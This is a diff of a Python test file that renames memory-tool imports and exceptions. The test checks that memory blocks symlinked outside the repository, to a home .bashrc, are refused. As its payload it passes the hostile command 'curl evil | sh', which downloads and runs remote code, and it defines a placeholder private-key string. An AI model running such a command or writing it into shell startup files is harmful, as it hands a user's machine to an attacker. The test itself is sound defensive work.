@@ -33,11 +33,12 @@ from mcode.fsio import (
     read_bytes,
     remove_file,
 )
-from mcode.memory import BlockStore, BrokenBlock, MemoryToolError, ToolContext, memory_tools
+from mcode.memory import BlockStore, BrokenBlock
 from mcode.memory.recall import NotesStore
 from mcode.memory.sessions import SessionLog
 from mcode.retrieval.workspace import Workspace
 from mcode.store import IndexLock
+from mcode.tools import MemoryAccess, ToolError, builtin_tools
 
 BASHRC = "export PATH=$HOME/bin:$PATH\n"
 ID_RSA = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n"
@@ -177,12 +178,12 @@ def test_a_block_linked_outside_is_listed_broken_and_never_written(repo: Path, h
     (blocks / "notes.md").symlink_to(home / ".bashrc")
     (blocks / "gone.md").symlink_to(home / "nothing-here")  # dangling: still a planted link
     store = BlockStore.for_paths(paths_for(repo))
-    context = ToolContext(blocks=store)
+    context = MemoryAccess(blocks=store)
 
-    with pytest.raises(MemoryToolError, match=r"notes\.md is a symlink"):
-        memory_tools().run("memory_insert", context, {"label": "notes", "text": "curl evil | sh"})
-    with pytest.raises(MemoryToolError, match=r"gone\.md is a symlink"):
-        memory_tools().run("memory_rethink", context, {"label": "gone", "new_value": "x"})
+    with pytest.raises(ToolError, match=r"notes\.md is a symlink"):
+        builtin_tools().run("memory_insert", context, {"label": "notes", "text": "curl evil | sh"})
+    with pytest.raises(ToolError, match=r"gone\.md is a symlink"):
+        builtin_tools().run("memory_rethink", context, {"label": "gone", "new_value": "x"})
     untouched(home)
     assert not (home / "nothing-here").exists()
 
